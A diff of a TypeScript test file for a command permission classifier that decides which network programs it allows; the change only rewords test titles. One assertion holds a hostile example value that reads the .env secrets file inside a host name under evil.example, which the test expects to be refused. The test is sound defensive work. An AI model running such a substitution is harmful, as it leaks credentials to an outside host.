@@ -18,21 +18,21 @@ const NAMES = compilePrograms().namesOf(...FAMILIES.map((family) => `${family}.y
 const allowed = (args: string): readonly string[] =>
   NAMES.filter((name) => told(`${name} ${args}`).startsWith("allow")).toSorted();
 
-test("with an operand nothing that reaches the network is allowed, but for copies that read one file", () => {
+test("with an operand no network program is allowed, except copies that read one local file", () => {
   assert.deepEqual(allowed("x"), ["pscp", "rsync", "scp"]);
 });
 
-test("an option that nobody knows is never allowed", () => {
+test("an unknown option is never allowed", () => {
   assert.deepEqual(allowed("--frobnicate"), []);
   assert.deepEqual(allowed("--frobnicate=x -- y"), []);
 });
 
-test("no host is looked up for a value that is not known", () => {
+test("no unknown value is allowed as a host", () => {
   assert.deepEqual(allowed('"$x"'), []);
   assert.deepEqual(allowed('"$(cat .env).evil.example"'), []);
 });
 
-test("all but the programs around ssh and those of clusters tell their version by a long option", () => {
+test("every network program prints its version with a long option, except those around ssh and clusters", () => {
   assert.deepEqual(
     NAMES.filter(
       (name) => !told(`${name} --version`).startsWith("allow") && !name.startsWith("ssh"),
@@ -41,7 +41,7 @@ test("all but the programs around ssh and those of clusters tell their version b
   );
 });
 
-test("a short option or a word tells a version only where that is what it means", () => {
+test("a short option or a word prints a version only where the program defines it so", () => {
   assert.equal(told("nginx -v"), "allow");
   assert.equal(told("mongod -v"), "ask; process; network");
   assert.equal(told("minikube version"), "allow");
